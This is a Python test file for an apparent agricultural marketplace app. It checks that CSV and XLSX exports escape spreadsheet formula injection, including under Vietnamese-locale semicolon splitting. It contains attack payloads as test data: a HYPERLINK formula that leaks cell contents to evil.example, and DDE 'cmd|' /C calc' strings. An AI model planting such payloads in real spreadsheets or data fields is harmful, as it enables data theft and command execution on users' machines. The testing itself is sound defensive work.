"""CSV/XLSX formula injection: user text that Excel would run comes out of every export neutralised.

Records are created with names that start with = + - @ and read back from each export; numbers
(negative ones included) must stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from agrimarket.accounts.actor import Role
from agrimarket.exports import FORMULA_STARTS, csv_for_excel, csv_safe, excel_safe
from agrimarket.tables import Household
from tests.agrimarket.households.test_import import finished
from tests.agrimarket.indicators.helpers import history, household, listing, vn
from tests.agrimarket.test_web_pages import web_login
from tests.factories import HAI_PHONG
from tests.traceability.test_areas import AREAS, make_area, set_status

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
PAYLOADS = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
ROOT = Path(__file__).resolve().parents[2]
_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def assert_no_live_formula(cells: list[object], where: str) -> None:
    """No text cell starts a formula, unless it is just a number such as -12."""
    for cell in cells:
        if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
            assert _NUMBER.fullmatch(cell), (where, cell)


def flat(rows: list[list[object]]) -> list[object]:
    return [cell for row in rows for cell in row]


def assert_no_formula_when_split_on_semicolons(body: bytes, where: str) -> None:
    """Read the CSV as Excel with ";" as list separator (Vietnamese locale) does on a double-click.

    Every line break ends a row and every ";" ends a cell: quotes only group from a cell's start,
    so a comma CSV's quoting does not hold there. No cell so made may start a formula, even after
    spaces or a quote, unless it is a plain number.
    """
    text = body.decode("utf-8-sig")
    for line in re.split(r"\r\n|\n|\r", text):
        for cell in line.split(";"):
            for piece in (cell, *cell.split(",")[1:]):  # and as a "," reader would cut it
                start = piece.lstrip(' "')
                if start.startswith(FORMULA_STARTS):
                    assert _NUMBER.fullmatch(start.rstrip('"')), (where, line, piece)


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+84912345678", "'+84912345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12", "-12"),
        ("-1,5", "-1,5"),
        ("-0.25", "-0.25"),
        ("Rau = ngon", "Rau = ngon"),
        ("Cá\x00 song\x1b", "Cá song"),
        (-5, -5),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_excel_safe(raw, safe):
    assert excel_safe(raw) == safe


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("Rau;=1+1", "Rau;'=1+1"),
        ("Rau sạch;@SUM(A1)", "Rau sạch;'@SUM(A1)"),
        ("Cải; -2+3", "Cải;' -2+3"),
        ('Cải;"=1+1"', 'Cải;\'"=1+1"'),
        ("Rau,+cmd", "Rau,'+cmd"),
        ("Dòng một\n=1+1", "Dòng một\n'=1+1"),
        ("=1;=2", "'=1;'=2"),
        ("Rau; ngon, rẻ", "Rau; ngon, rẻ"),
        ("-1,5", "-1,5"),
        (7, 7),
    ],
)
def test_csv_safe_neutralises_formulas_after_a_separator(raw, safe):
    assert csv_safe(raw) == safe


def test_xlsx_cells_keep_separators_as_typed():
    # An XLSX cell is never split: only a leading trigger needs the apostrophe there.
    assert excel_safe("Rau;=1+1") == "Rau;=1+1"


def test_comma_csv_opened_with_semicolon_separator_has_no_formula():
    rows = [["Tên", "Ghi chú"], ["Rau;=1+1", 'Cải, "-2+3;@SUM(A1)'], ["Dòng\n=HYPERLINK(1)", "-1,5"]]
    body = csv_for_excel(rows[0], rows[1:])
    assert_no_formula_when_split_on_semicolons(body, "rows")
    # The same file still reads back, cell for cell, in a comma reader (only apostrophes added).
    back = csv_rows(body)
    assert back[1] == ["Rau;'=1+1", "Cải,' \"-2+3;'@SUM(A1)"]
    assert back[2] == ["Dòng\n'=HYPERLINK(1)", "-1,5"]
    # Without the rule a ";" Excel would start a cell with "=1+1": the check itself bites.
    with pytest.raises(AssertionError):
        assert_no_formula_when_split_on_semicolons("\ufeffTên\r\nRau;=1+1\r\n".encode(), "raw")


def test_csv_keeps_negative_numbers_as_numbers():
    rows = csv_rows(csv_for_excel(["Tên", "Số"], [["=1+1", -3], ["-7", 0]]))
    assert rows[1:] == [["'=1+1", "-3"], ["-7", "0"]]


def test_every_spreadsheet_export_uses_the_shared_helper():
    """New exports are covered too: building CSV or XLSX anywhere else must go through excel_safe."""
    offenders = []
    for package in ("agrimarket", "traceability", "integrations"):
        for path in (ROOT / package).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            name = str(path.relative_to(ROOT))
            if re.search(r"csv\.(writer|DictWriter)\(", text) and name != "agrimarket/exports.py":
                offenders.append(f"{name}: csv.writer outside agrimarket.exports")
            if "Workbook(" in text and "excel_safe" not in text:
                offenders.append(f"{name}: XLSX without excel_safe")
    assert offenders == []


async def test_registry_csv_neutralises_area_and_owner_text(client, accounts):
    # The second formula hides behind a ";": a Vietnamese-locale Excel starts a cell there.
    farmer = await accounts.household(name="@SUM(1+1)*cmd;=1+1")
    area = await make_area(
        client,
        farmer,
        name=HYPERLINK,
        crop="+cmd|' /C calc'!A0",
        official_code="-HP-0001",
        code_kind="export",
        export_market="=1+2",
    )
    admin = await accounts.staff(Role.ADMIN)
    assert (await set_status(client, admin, area["id"], "suspended", "-2+3+cmd")).status_code == 200
    officer = await accounts.staff(Role.OFFICER, HAI_PHONG)
    api = await client.get(f"{AREAS}export.csv", headers=officer.headers)
    await web_login(client, officer.phone)
    page = await client.get("/areas/registry.csv")
    for response in (api, page):
        assert response.status_code == 200, response.text
        rows = csv_rows(response.content)
        assert_no_live_formula(flat(rows), "registry")
        assert_no_formula_when_split_on_semicolons(response.content, "registry")
        row = dict(zip(rows[0], rows[1], strict=True))
        assert row["Mã số vùng trồng"] == "'-HP-0001"
        assert row["Tên vùng trồng"] == "'" + HYPERLINK
        assert row["Cây trồng"] == "'+cmd|' /C calc'!A0"
        assert row["Chủ sở hữu"] == "'@SUM(1+1)*cmd;'=1+1"
        assert row["Thị trường"] == "'=1+2"
        assert row["Lý do"] == "'-2+3+cmd"
        assert row["Diện tích (ha)"] == "1,5"


async def test_indicator_csv_and_xlsx_neutralise_labels_and_keep_numbers(client, accounts):
    farm = await household()
    await Household.update({Household.legacy_district: HYPERLINK}).where(Household.id == farm)
    await history(await listing(farm, code="@SUM(A1:A9)"), ("live", vn(2026, 1, 10)))
    odd = await household()  # a control character openpyxl cannot store must not break the XLSX
    await Household.update({Household.legacy_district: "Huyện\x01 cũ"}).where(Household.id == odd)
    await history(await listing(odd), ("live", vn(2026, 1, 10)))
    officer = await accounts.staff(Role.OFFICER, HAI_PHONG)
    params = {"date": "2026-01-20", "area": HAI_PHONG}
    xlsx = await client.get("/api/v1/indicators/export.xlsx", params=params, headers=officer.headers)
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula stored at all
    values = [c.value for c in cells]
    assert_no_live_formula(values, "indicators.xlsx")
    assert "'" + HYPERLINK in values and "'@SUM(A1:A9)" in values
    table = [[c for c in row if c is not None] for row in sheet.iter_rows(values_only=True)]
    assert ["'" + HYPERLINK, 1, 1, 0] in table and ["Huyện cũ", 1, 1, 0] in table

    csv_api = await client.get("/api/v1/indicators/export.csv", params=params, headers=officer.headers)
    await web_login(client, officer.phone)
    csv_page = await client.get("/indicators/export.csv", params=params)
    for response in (csv_api, csv_page):
        rows = csv_rows(response.content)
        assert_no_live_formula(flat(rows), "indicators.csv")
        assert_no_formula_when_split_on_semicolons(response.content, "indicators.csv")
        assert ["'" + HYPERLINK, "1", "1", "0"] in rows and ["'@SUM(A1:A9)", "1", "1"] in rows


async def test_open_data_csv_has_no_live_formula(client):
    farm = await household()
    await history(await listing(farm, code="=cmd"), ("live", vn(2026, 1, 10)))
    for params in ({"date": "2026-01-20"}, {"date": "2026-01-20", "province": HAI_PHONG}):
        response = await client.get("/api/v1/open-data/households-selling.csv", params=params)
        rows = csv_rows(response.content)
        assert_no_live_formula(flat(rows), f"open data {params}")
        assert_no_formula_when_split_on_semicolons(response.content, f"open data {params}")
        assert any(row[2:3] == ["1"] for row in rows[1:])  # counts stay plain numbers


async def test_imported_formula_text_is_stored_as_is_and_neutralised_in_problems_csv(client, accounts):
    officer = await accounts.staff(Role.OFFICER, HAI_PHONG)
    rows = [
        ["Họ tên chủ hộ", "Số điện thoại", "Mã xã", "Địa chỉ"],
        [HYPERLINK, "0912300001", "11914", "@SUM(1+1)"],
        ["+cmd", "0912300002", "11914", "-2+3"],
        *[[f"Nguyễn Văn {n}", payload, "11914", ""] for n, payload in enumerate(PAYLOADS)],
    ]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    body = ("\ufeff" + out.getvalue()).encode()
    response = await client.post(
        "/api/v1/household-imports/", files={"file": ("ho.csv", body)}, headers=officer.headers
    )
    assert response.status_code == 202, response.text
    job = await finished(client, officer, response.json()["id"])
    assert (job["imported"], job["rejected"]) == (2, len(PAYLOADS))
    stored = {
        r["phone"]: r for r in await Household.select(Household.phone, Household.head_name, Household.address)
    }
    assert stored["0912300001"]["head_name"] == HYPERLINK  # kept as typed: neutralised on the way out
    assert stored["0912300002"]["address"] == "-2+3"

    api = await client.get(f"/api/v1/household-imports/{job['id']}/problems.csv", headers=officer.headers)
    await web_login(client, officer.phone)
    page = await client.get(f"/households/import/{job['id']}/problems.csv")
    for response in (api, page):
        rows = csv_rows(response.content)
        assert_no_live_formula(flat(rows), "problems.csv")
        assert_no_formula_when_split_on_semicolons(response.content, "problems.csv")
        phones = [row[1] for row in rows[1:]]
        assert phones == ["'" + payload[:40] for payload in PAYLOADS]  # phones are kept to 40 characters
